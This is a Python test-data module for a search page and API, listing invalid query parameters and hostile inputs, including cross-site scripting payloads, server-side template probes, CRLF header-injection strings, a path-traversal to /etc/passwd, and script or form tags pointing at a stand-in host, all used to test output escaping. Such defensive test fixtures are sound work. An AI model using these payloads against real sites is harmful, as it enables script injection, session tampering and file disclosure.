"""What tests of the page and of the API ask alike."""

from .conftest import MARKUP, TEMPLATE

#: ``(query string, what the sentence names)``
BAD = [
    ("per_page=0", "per_page=0"),
    ("per_page=1001", "per_page=1001"),
    ("per_page=banyak", "'banyak'"),
    ("page=-1", "page=-1"),
    ("page=0", "page=0"),
    ("page=abc", "'abc'"),
    ("page=" + "9" * 5000, "999"),
    ("since=2024-12-31&until=2024-01-01", "2024-12-31"),
    ("since=kapan-kapan", "'kapan-kapan'"),
    ("until=2024-02-30", "'2024-02-30'"),
    ("sort=acak", "'acak'"),
    ("interval=windu", "'windu'"),
    ("exact=ya", "'ya'"),
]

HOSTILE = [
    "x" * 10_000,
    "kata " * 2_000,
    " ATAU ".join(f"kata{number}" for number in range(500)),
    "(" * 3_000,
    "*",
    '"tanpa pasangan',
    "\x00\x01\x1f\x7f\u202e\ufeff",
    "a\r\nSet-Cookie: x=1",
    MARKUP,
    '"><img src=x onerror=alert(1)>',
    TEMPLATE,
    "../../etc/passwd",
    "outlet: penulis: tanggal:9999-99-99..x",
]

#: What a product of two numbers would be, were a template to work it out.
WORKED_OUT = "1787569"

_PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//jahat.example></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>-->",
    "--><script>alert(1)</script>",
    "]]><x>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><title>x</title></svg><a xlink:href=javascript:alert(1)>x</a>",
    "<math><mtext></mtext><mglyph><style>",
    "<iframe srcdoc='<script>1</script>'>",
    "<base href=//jahat.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//jahat.example><input>",
    "<details open ontoggle=alert(1)>",
    "<mark onclick=alert(1)>x</mark>",
    "<a href=javascript:alert(1)>x</a>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onclick=alert(1)",
    '"><b>',
    "'><b>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;",
    "&#60;script&#62;alert(1)",
    "&quot;&gt;&lt;b&gt;",
    "&amp;lt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{1337*1337}}",
    "{% set x = 1337*1337 %}{{ x }}",
    "{# x #}{{ config }}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "%(asked)s %(q)s %s %d %",
    "{0} {asked} {}",
    "a\r\nSet-Cookie: jahat=1",
    "a\nX-Jahat: 1",
    "a%0d%0aX-Jahat:%201",
    "\u2028alert(1)\u2029",
    "\u202e<tpircs>\u202c",
    "\x00<b>\x1b[31m",
    "\ufeff<b>\ufffe",
    "\ud800<b>",
    "..\\..\\jahat//\\jahat.example",
    "https://jahat.example/?a=<b>&c=\"d\"#'e'",
]
_AROUND = ["{}", "jagung {}", '"{}"', "outlet:{} jagung", "judul:{} -{}"]

#: Queries that try to get out of where a page writes them.
ESCAPING = [around.replace("{}", payload) for payload in _PAYLOADS for around in _AROUND]
